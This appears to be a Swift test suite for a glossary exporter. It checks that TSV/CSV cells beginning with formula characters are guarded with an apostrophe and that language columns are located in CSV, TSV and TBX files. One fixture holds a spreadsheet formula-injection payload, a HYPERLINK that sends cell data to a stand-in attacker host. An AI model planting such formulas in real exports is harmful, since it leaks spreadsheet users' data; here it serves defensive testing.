import Foundation
import Testing
import VerbaleCore
@testable import VerbaleFormats
import VerbaleTestSupport

/// The glossary readers and writer after the closing note of the 30 Nov stop: TSV/CSV export
/// guards spreadsheet formulas as the memory export does (review m19), and the readers say where
/// a file first uses each language (the G2 warning's place).
@Suite("Glossary TSV/CSV formula guard and language locations")
struct GlossaryFollowUpTests {
    static let languages = [LanguageTag(.english), LanguageTag(.french), LanguageTag(.khmer)]

    /// Our own concepts whose cells a spreadsheet would run: a suffix term, a bulleted Khmer
    /// usage note, a phone number as a source, a formula as a note, an @-handle as a domain, and
    /// a text that itself starts with an apostrophe and a hyphen (`'-ism'`).
    static let concepts: [Concept] = [
        Concept(id: "-ism", domain: "@protocol", note: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", terms: [
            Term(language: LanguageTag(.english), text: "-ism", source: "+855 23 214 441"),
            Term(language: LanguageTag(.french), text: "'-isme'", source: "-"),
            Term(language: LanguageTag(.khmer), text: "-និយម", usageNote: "- ចំណុច\u{200B}ទី\u{200B}មួយ", source: "@ក្រសួង", review: .unreviewed),
        ]),
        Concept(id: "embassy", note: "plain", terms: [
            Term(language: LanguageTag(.english), text: "embassy"),
            Term(language: LanguageTag(.khmer), text: "ស្ថានទូត"),
        ]),
    ]

    @Test("Export guards every cell starting with = + - @ (EN, FR, KM) with an apostrophe, and the guarded table reads back exactly")
    func guardedRoundTrip() throws {
        for delimiter in [GlossaryCSV.Delimiter.tab, .comma] {
            let written = GlossaryCSV.write(Self.concepts, languages: Self.languages, delimiter: delimiter)
            for cell in ["'-ism", "'+855 23 214 441", "'=HYPERLINK(", "'@protocol", "''-isme'", "'-និយម", "'- ចំណុច\u{200B}ទី\u{200B}មួយ", "'@ក្រសួង"] {
                #expect(written.contains(cell), "\(delimiter): \(cell) not guarded in\n\(written)")
            }
            #expect(!written.contains("'embassy") && !written.contains("'ស្ថានទូត"), "only formula cells are guarded")
            let again = try GlossaryCSV.read(written, name: "g", delimiter: delimiter)
            #expect(again.map(\.id) == Self.concepts.map(\.id))
            #expect(again.map(\.domain) == Self.concepts.map(\.domain))
            #expect(again.map(\.note) == Self.concepts.map(\.note))
            #expect(again.map(\.terms) == Self.concepts.map(\.terms), "\(delimiter)")
        }
    }

    @Test("formulaGuard: false writes the cells bare, as the memory export's --no-formula-guard")
    func bare() throws {
        for delimiter in [GlossaryCSV.Delimiter.tab, .comma] {
            let written = GlossaryCSV.write(Self.concepts, languages: Self.languages, delimiter: delimiter, formulaGuard: false)
            #expect(!written.contains("'+855") && !written.contains("'- ចំណុច") && !written.contains("'=HYPERLINK"))
            let separator: Character = delimiter == .tab ? "\t" : ","
            let row = try #require(written.split(separator: "\n").dropFirst().first)
            #expect(row.hasPrefix("-ism\(separator)-ism\(separator)'-isme'\(separator)-និយម"), "\(row)")
        }
    }

    @Test("Each cell goes through the memory export's FormulaGuard: the same cells are guarded")
    func sameGuardAsMemoryExport() throws {
        let written = GlossaryCSV.write(Self.concepts, languages: Self.languages, delimiter: .tab, formulaGuard: false)
        let guarded = GlossaryCSV.write(Self.concepts, languages: Self.languages, delimiter: .tab)
        let bareCells = written.split(separator: "\n").flatMap { $0.split(separator: "\t", omittingEmptySubsequences: false) }
        let guardedCells = guarded.split(separator: "\n").flatMap { $0.split(separator: "\t", omittingEmptySubsequences: false) }
        #expect(bareCells.count == guardedCells.count)
        for (bare, cell) in zip(bareCells, guardedCells) {
            #expect(String(cell) == FormulaGuard.guarded(String(bare)), "\(bare)")
        }
    }

    @Test("TSV: each language column's header cell, its column counted in characters past a Khmer header, Khmer and kh included")
    func tsvLanguageColumns() throws {
        // `កំណត់សម្គាល់` ("note") is 12 scalars: `kh` starts at column 2 + 1 + 12 + 1 + 1 = 17.
        let text = "# a comment line\nen\tកំណត់សម្គាល់\tkh\tkm\tkm status\tkh\nembassy\tចំណាំ\tស្ថានទូត\tស្ថានទូត\tpreferred\t\n"
        let table = try GlossaryCSV.readTable(text, name: "g.tsv", delimiter: .tab)
        #expect(table.concepts.count == 1)
        let kh = try LanguageTag(parsing: "kh")
        #expect(table.languageColumns == [
            LanguageLocation(tag: LanguageTag(.english), line: 2, column: 1, place: "header cell 1"),
            LanguageLocation(tag: kh, line: 2, column: 17, place: "header cell 3"),
            LanguageLocation(tag: LanguageTag(.khmer), line: 2, column: 20, place: "header cell 4"),
        ], "the first column of a tag only; a term property column is not a language column")
    }

    @Test("CSV: a quoted header cell is placed at its opening quote; an OmegaT file has no language columns")
    func csvLanguageColumns() throws {
        let text = "\"en\",\"fr, FR\",\"kh\"\nembassy,ambassade,ស្ថានទូត\n"
        let table = try GlossaryCSV.readTable(text, name: "g.csv", delimiter: .comma)
        let kh = try LanguageTag(parsing: "kh")
        // "en" 1-4, comma 5, "fr, FR" 6-13 (an other column), comma 14, "kh" at 15.
        #expect(table.languageColumns == [
            LanguageLocation(tag: LanguageTag(.english), line: 1, column: 1, place: "header cell 1"),
            LanguageLocation(tag: kh, line: 1, column: 15, place: "header cell 3"),
        ])
        let omegaT = try GlossaryCSV.readTable("embassy\tស្ថានទូត\tnote\n", name: "o.txt", delimiter: .tab,
                                               languages: (LanguageTag(.english), LanguageTag(.khmer)))
        #expect(omegaT.languageColumns.isEmpty && omegaT.concepts.count == 1)
    }

    @Test("TBX v2 and v3: the first langSet/langSec of each xml:lang, at its line and column")
    func tbxLanguageSections() throws {
        // Our fixtures: v2 with `kh` first on line 5 (indented two spaces) and again on line 6.
        let (header, concepts) = try TBXReader.readAll(GlossaryFixture.url("kh-langsets-v2.tbx"))
        #expect(concepts.count == 2)
        let kh = try LanguageTag(parsing: "kh")
        #expect(header.languageSections == [
            LanguageLocation(tag: LanguageTag(.english), line: 4, column: 20, place: "<langSet>"),
            LanguageLocation(tag: kh, line: 5, column: 3, place: "<langSet>"),
        ])
        let khmer = try TBXReader.readAll(GlossaryFixture.url("kh-langsecs-v3.tbx")).header.languageSections
        // `<conceptEntry id="c1">` is 22 characters; the langSec in km takes 23–95 (ស្ថានទូត is 8
        // scalars, counted as 8 columns), the second starts at 96.
        #expect(khmer == [
            LanguageLocation(tag: LanguageTag(.khmer), line: 3, column: 23, place: "<langSec>"),
            LanguageLocation(tag: try LanguageTag(parsing: "kh-KH"), line: 3, column: 96, place: "<langSec>"),
        ])
    }
}
